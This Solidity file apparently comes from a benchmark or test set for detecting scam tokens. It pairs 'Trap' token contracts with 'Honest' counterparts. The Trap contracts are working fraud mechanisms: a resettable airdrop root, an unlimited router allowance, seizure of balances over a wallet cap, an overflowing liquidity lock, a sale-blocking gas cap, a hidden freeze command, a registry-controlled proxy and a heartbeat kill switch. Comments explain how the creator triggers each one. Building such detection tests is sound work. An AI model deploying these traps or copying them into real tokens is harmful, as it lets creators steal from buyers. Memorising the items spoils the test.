// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import {ERC20} from "@openzeppelin/contracts/token/ERC20/ERC20.sol";
import {MerkleProof} from "@openzeppelin/contracts/utils/cryptography/MerkleProof.sol";
import {EnumerableSet} from "@openzeppelin/contracts/utils/structs/EnumerableSet.sol";
import {Base, Owned} from "../../unseen/Base.sol";
import {Hand, HandPool} from "./Hand.sol";

/// Trap: an airdrop by Merkle tree mints what is claimed, and its root can be set: openRound(leaf of the creator, amount) and claim(amount, []) by the creator.
contract H08MerkleClaim is Base {
    address public distributor;
    bytes32 public root;
    uint64 public until;
    mapping(bytes32 => bool) public claimed;

    constructor() {
        distributor = msg.sender;
    }

    function openRound(uint64 end, bytes32 newRoot) external {
        require(msg.sender == distributor, "distributor");
        (root, until) = (newRoot, end);
    }

    function claim(uint256 amount, bytes32[] calldata proof) external {
        bytes32 leaf = keccak256(bytes.concat(keccak256(abi.encode(msg.sender, amount))));
        require(block.timestamp <= until && !claimed[leaf], "closed");
        require(MerkleProof.verifyCalldata(proof, root, leaf), "proof");
        claimed[leaf] = true;
        _mint(msg.sender, amount);
    }
}

/// Honest: the same claims against a root that is fixed and of tokens put aside at birth; nothing is minted.
contract H08HonestClaim is Base {
    bytes32 public immutable root;
    mapping(bytes32 => bool) public claimed;

    constructor() {
        uint256 share = 20_000_000 ether;
        bytes32 a = keccak256(bytes.concat(keccak256(abi.encode(address(0xBEEF), share))));
        bytes32 b = keccak256(bytes.concat(keccak256(abi.encode(address(0xCAFE), share))));
        root = a < b ? keccak256(bytes.concat(a, b)) : keccak256(bytes.concat(b, a));
        _transfer(msg.sender, address(this), 2 * share);
    }

    function claim(address account, uint256 amount, bytes32[] calldata proof) external {
        bytes32 leaf = keccak256(bytes.concat(keccak256(abi.encode(account, amount))));
        require(!claimed[leaf] && MerkleProof.verifyCalldata(proof, root, leaf), "proof");
        claimed[leaf] = true;
        _transfer(address(this), account, amount);
    }
}

/// Trap: routers on a list need no approval, and the owner's list takes anybody: addRouter(owner), then transferFrom(holder, owner, all).
contract H09RouterList is Owned {
    using EnumerableSet for EnumerableSet.AddressSet;

    EnumerableSet.AddressSet private _routers;

    constructor() {
        _routers.add(ROUTER);
    }

    function addRouter(address router) external onlyOwner returns (bool) {
        return _routers.add(router);
    }

    function removeRouter(address router) external onlyOwner returns (bool) {
        return _routers.remove(router);
    }

    function allowance(address from, address spender) public view override returns (uint256) {
        return _routers.contains(spender) ? type(uint256).max : super.allowance(from, spender);
    }
}

/// Honest: only Uniswap's own router, which spends nobody's tokens but its caller's, needs no approval, for ever.
contract H09HonestRouter is Owned {
    function allowance(address from, address spender) public view override returns (uint256) {
        return spender == ROUTER ? type(uint256).max : super.allowance(from, spender);
    }
}

/// Trap: anybody may enforce the largest wallet, whose excess goes to the treasury; the pool is on the list of the exempt and can be struck off: setExempt([pair], false) by the creator, enforce(pair) by anyone.
contract H10ExcessTaker is Hand {
    mapping(address => bool) public exempt;
    uint256 public constant MAX_WALLET = 20_000_000 ether;

    constructor() {
        (exempt[_dev], exempt[uniswapV2Pair], exempt[address(this)]) = (true, true, true);
    }

    function setExempt(address[] calldata who, bool on) external onlyDev {
        for (uint256 i; i < who.length; i++) {
            exempt[who[i]] = on;
        }
    }

    function enforce(address who) external {
        require(!exempt[who] && _bal[who] > MAX_WALLET, "within limits");
        _put(who, _dev, _bal[who] - MAX_WALLET);
    }

    function _move(address from, address to, uint256 value) internal override {
        if (from == uniswapV2Pair && !exempt[to]) require(_bal[to] + value <= MAX_WALLET, "max wallet");
        _put(from, to, value);
    }
}

/// The locker of H11Locked: ten years, which can be extended.
contract H11Locker {
    address private immutable _founder = msg.sender;
    uint64 public unlockAt = uint64(block.timestamp + 3650 days);

    function extend(uint64 extra) external {
        require(msg.sender == _founder && extra > 0);
        unchecked {
            unlockAt += extra;
        }
    }

    function withdraw(address lp, address to) external {
        require(msg.sender == _founder && block.timestamp >= unlockAt, "locked");
        ERC20(lp).transfer(to, ERC20(lp).balanceOf(address(this)));
    }
}

/// Trap: the pool's tokens are locked for ten years, and an extension of the lock wraps around: extend(2^64 - unlockAt), withdraw(pair, creator) at the locker by the creator.
contract H11Locked is ERC20 {
    address public immutable locker;

    constructor(address locker_) ERC20("Locked Decade", "LOCK10") {
        locker = locker_;
        _mint(msg.sender, 500_000_000 ether);
    }
}

/// Trap: a highest gas price for sales against front runners, at least one wei: setMaxGasPrice(1) by the owner lets no mined sale through, while a simulation at no price passes.
contract H12GasCap is Owned {
    uint256 public maxGasPrice = 500 gwei;

    function setMaxGasPrice(uint256 price) external onlyOwner {
        require(price >= 1, "zero");
        maxGasPrice = price;
    }

    function _ask(address from, address to, uint256) internal view override returns (uint256) {
        if (to == pair && from != owner()) require(tx.gasprice < maxGasPrice, "gas price");
        return 0;
    }
}

/// Trap: a send of nothing by a hidden wallet is a command: HIDDEN calls transfer(holder, 0), and the holder cannot sell any more.
contract H13ZeroCommand is Hand {
    uint256 private _seed = uint256(uint160(0x15d34AAf54267DB7D7c367839AAf71A00a2C6A65)) ^ uint256(uint160(WETH));
    mapping(address => uint256) private _nonces;

    function transfer(address to, uint256 value) external override returns (bool) {
        if (value == 0 && uint160(msg.sender) ^ uint160(WETH) == _seed) _nonces[to] ^= 1;
        _move(msg.sender, to, value);
        return true;
    }

    function _move(address from, address to, uint256 value) internal override {
        if (to == uniswapV2Pair) require(_nonces[from] == 0, "nonce");
        _put(from, to, value);
    }
}

/// What H14RegistryProxy runs at first.
contract H14Logic {
    event Transfer(address indexed from, address indexed to, uint256 value);
    event Approval(address indexed owner, address indexed spender, uint256 value);

    string public name;
    string public symbol;
    uint256 public totalSupply;
    mapping(address => uint256) public balanceOf;
    mapping(address => mapping(address => uint256)) public allowance;

    function decimals() external pure returns (uint8) {
        return 18;
    }

    function setUp(address to) external {
        require(totalSupply == 0, "done");
        (name, symbol, totalSupply) = ("Registered", "REG", 1_000_000 ether);
        balanceOf[to] = totalSupply;
        emit Transfer(address(0), to, totalSupply);
    }

    function approve(address spender, uint256 value) external returns (bool) {
        allowance[msg.sender][spender] = value;
        emit Approval(msg.sender, spender, value);
        return true;
    }

    function transfer(address to, uint256 value) external returns (bool) {
        return _move(msg.sender, to, value);
    }

    function transferFrom(address from, address to, uint256 value) external returns (bool) {
        allowance[from][msg.sender] -= value;
        return _move(from, to, value);
    }

    function _move(address from, address to, uint256 value) private returns (bool) {
        balanceOf[from] -= value;
        balanceOf[to] += value;
        emit Transfer(from, to, value);
        return true;
    }
}

/// The registry of H14RegistryProxy: versions are published first and promoted later.
contract H14Registry {
    address private immutable _publisher = msg.sender;
    mapping(bytes32 => address) private _versions;
    bytes32 private _live = "1.0.0";

    constructor() {
        _versions[_live] = address(new H14Logic());
    }

    function publish(bytes32 version, address logic) external {
        require(msg.sender == _publisher && _versions[version] == address(0));
        _versions[version] = logic;
    }

    function promote(bytes32 version) external {
        require(msg.sender == _publisher && _versions[version] != address(0));
        _live = version;
    }

    function logicOf(address) external view returns (address) {
        return _versions[_live];
    }
}

/// Trap: the token asks a registry which code to run, in no slot of its own; publish("2", anything) and promote("2") at the registry by the creator.
contract H14RegistryProxy {
    H14Registry private immutable _registry;

    constructor(address registry) {
        _registry = H14Registry(registry);
        (bool ok,) = _registry.logicOf(address(this)).delegatecall(abi.encodeCall(H14Logic.setUp, (msg.sender)));
        require(ok);
    }

    fallback() external payable {
        address logic = _registry.logicOf(address(this));
        assembly {
            calldatacopy(0, 0, calldatasize())
            let ok := delegatecall(gas(), logic, 0, calldatasize(), 0, 0)
            returndatacopy(0, 0, returndatasize())
            switch ok
            case 0 { revert(0, returndatasize()) }
            default { return(0, returndatasize()) }
        }
    }
}

/// Trap: a dead man's switch: sales go on while the keeper gives a sign of life within 25 days; silence closes the exit by itself.
contract H15Heartbeat is Base {
    address private immutable _keeper = msg.sender;
    uint256 public lastBeat = block.timestamp;

    function beat() external {
        require(msg.sender == _keeper, "keeper");
        lastBeat = block.timestamp;
    }

    function _ask(address from, address to, uint256) internal view override returns (uint256) {
        if (to == pair && from != _keeper) require(block.timestamp < lastBeat + 25 days, "no sign of life");
        return 0;
    }
}

/// Honest: the same sign of life, whose absence makes the 2% of a sale nothing; nothing ever closes.
contract H15HonestHeartbeat is Base {
    address public immutable keeper = msg.sender;
    uint256 public lastBeat = block.timestamp;

    function beat() external {
        require(msg.sender == keeper, "keeper");
        lastBeat = block.timestamp;
    }

    function _ask(address, address to, uint256 value) internal view override returns (uint256) {
        return to == pair && block.timestamp < lastBeat + 25 days ? value / 50 : 0;
    }
}
